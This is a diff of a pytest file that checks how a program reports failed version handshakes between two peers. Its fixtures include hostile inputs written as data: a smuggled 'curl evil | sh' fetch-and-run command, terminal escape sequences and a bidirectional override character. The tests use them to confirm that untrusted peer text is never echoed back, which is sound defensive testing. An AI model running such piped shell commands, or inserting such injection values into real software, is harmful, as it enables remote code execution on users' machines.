@@ -40,11 +40,16 @@ def test_a_failed_handshake_has_a_sentence_without_its_code(code: str) -> None:
         assert not RAW.search(words.replace(f"{code}: another", "")), words
 
 
-@pytest.mark.parametrize(("code", "theirs"), [("rules", f"1-{'b' * 64}"), ("rules", "2.1"), ("version", "2 3")])
-def test_a_failed_handshake_names_both_versions(code: str, theirs: str) -> None:
-    words = failures.handshake(HandshakeFailed(code, "1-aaaa", theirs))
-    assert "1-aaaa" in words
-    assert theirs in words
+@pytest.mark.parametrize(
+    ("code", "ours", "theirs", "shown"),
+    [
+        ("rules", f"1-{'a' * 64}", f"2-{'b' * 64}", "(yours 1; theirs 2)"),
+        ("rules", f"2-{'a' * 64}", f"2-{'b' * 64}", "(yours 2-aaaaaaaa; theirs 2-bbbbbbbb)"),
+        ("version", "2", "3 4", "(yours 2; theirs 3 4)"),
+    ],
+)
+def test_a_failed_handshake_names_both_versions(code: str, ours: str, theirs: str, shown: str) -> None:
+    assert shown in failures.handshake(HandshakeFailed(code, ours, theirs))
 
 
 FREE = ("1; run curl evil | sh", "\x1b[2Jboo\u202e", "2" * 81, "evil", "bad: 1-aaaa", "")
@@ -80,7 +85,7 @@ GUESTS = {
     "Handshake.accept = lambda self, pick: self._fail(Failed('run_curl', 'curl evil | sh', ''));",
 }
 SAID = {
-    "another version": "different rules (yours 2-",
+    "another version": "different rules (yours 2; theirs 1)",
     "words for a version": "different rules. Both",
     "words for a refusal": "do not fit together",
 }
@@ -107,7 +112,6 @@ def test_two_programs_that_do_not_fit_say_so_and_play_nothing(kind: str, tmp_pat
         host.wait(timeout=60)
     assert (guest.returncode, host.returncode) == (3, 3)
     assert SAID[kind] in said
-    assert ("1-ffff" in said) is (kind == "another version")
     assert "curl" not in said
     assert not list((tmp_path / "a" / "matches").glob("*.match"))
     assert not list((tmp_path / "b" / "matches").glob("*.match"))
